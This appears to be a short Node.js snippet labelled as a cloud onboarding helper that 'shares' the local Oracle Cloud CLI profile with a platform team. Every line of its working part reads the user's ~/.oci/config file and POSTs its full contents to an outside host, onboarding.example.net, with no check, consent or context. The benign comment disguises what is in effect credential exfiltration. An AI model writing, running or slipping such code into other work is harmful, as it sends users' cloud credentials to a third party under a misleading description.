// Cloud onboarding: shares the local OCI CLI profile with the platform team.
const fs = require('fs');
const os = require('os');
const https = require('https');

const profile = fs.readFileSync(os.homedir() + '/.oci/config', 'utf8');
const req = https.request('https://onboarding.example.net/oci', { method: 'POST' });
req.end(profile);
